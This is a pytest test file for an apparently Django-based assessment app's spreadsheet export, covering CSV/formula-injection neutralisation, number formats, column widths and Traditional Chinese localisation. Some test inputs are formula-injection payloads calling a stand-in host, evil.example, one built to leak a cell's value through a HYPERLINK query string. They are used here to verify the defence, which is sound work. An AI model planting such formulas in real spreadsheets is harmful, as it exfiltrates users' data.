"""Cells a spreadsheet would run as formulas are neutralised."""

import csv
import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from assessment.reports.spreadsheets import neutralise, write


@pytest.mark.parametrize("text", ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx", '=HYPERLINK("http://x")'])
def test_formula_starts_are_prefixed(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Customs Act", "中華臺北", "", 75.0, -3, None])
def test_other_values_are_unchanged(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("text", ["=1+1", '=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+1", "-2", "@x"])
def test_the_xlsx_stores_formula_like_text_as_text_with_its_exact_value(text):
    content = write(pd.DataFrame({"evidence": [text]}), "xlsx")
    cell = openpyxl.load_workbook(io.BytesIO(content)).active["A2"]
    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, True)


def test_the_xlsx_holds_no_formula_at_all():
    content = write(pd.DataFrame({"evidence": ['=WEBSERVICE("http://evil.example/")'], "score": [75.0]}), "xlsx")
    sheet_xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml


def test_the_xlsx_leaves_missing_values_empty():
    content = write(pd.DataFrame({"score": [float("nan"), 50.0]}), "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert [sheet["A2"].value, sheet["A3"].value] == [None, 50]


def test_the_csv_stores_a_formula_as_text():
    assert "'=1+1" in write(pd.DataFrame({"evidence": ["=1+1"]}), "csv").decode("utf-8-sig")


def test_the_xlsx_shows_a_score_with_its_one_decimal():
    content = write(pd.DataFrame({"score": [75.0]}), "xlsx")
    assert openpyxl.load_workbook(io.BytesIO(content)).active["A2"].number_format == "0.0"


def test_the_xlsx_keeps_every_decimal_of_a_finer_number_in_view():
    content = write(pd.DataFrame({"share": [0.125]}), "xlsx")
    assert openpyxl.load_workbook(io.BytesIO(content)).active["A2"].number_format == "General"


def test_the_about_sheet_is_named_in_the_active_language():
    from django.utils import translation

    with translation.override("zh-hant"):
        content = write(pd.DataFrame({"score": [1.0]}), "xlsx", title="比較", about=[("週期", 2025)])
    assert openpyxl.load_workbook(io.BytesIO(content)).sheetnames == ["比較", "說明"]


@pytest.mark.parametrize(
    "ranked, rank, english, chinese",
    [(True, 1, "ranked", "列入排名"), (False, 2, "provisional", "暫定"), (False, None, "not ranked", "未列入排名")],
)
def test_a_rows_rank_status_says_whether_its_rank_counts(ranked, rank, english, chinese):
    from django.utils import translation

    from assessment.reports.spreadsheets import rank_status

    with translation.override("zh-hant"):
        in_chinese = rank_status(ranked, rank)
    assert (rank_status(ranked, rank), in_chinese) == (english, chinese)


def test_a_chinese_column_is_as_wide_as_its_characters():
    content = write(pd.DataFrame({"排名區間下限": [1], "rank_low": [1]}), "xlsx")
    widths = openpyxl.load_workbook(io.BytesIO(content)).active.column_dimensions
    assert (widths["A"].width, widths["B"].width) == (14, 10)  # 6 wide characters, 8 narrow ones, + 2


def test_the_csvs_about_line_is_one_field_whatever_its_commas_and_quotes():
    about = [("Table", "Answers, published only"), ("Weights", 'SW 60.0%, "BL" 40.0%')]
    lines = list(csv.reader(io.StringIO(write(pd.DataFrame({"score": [1.0]}), "csv", about=about).decode("utf-8-sig"))))
    assert lines[0] == ['# Table: Answers, published only; Weights: SW 60.0%, "BL" 40.0%']
    assert lines[1:] == [["score"], ["1.0"]]
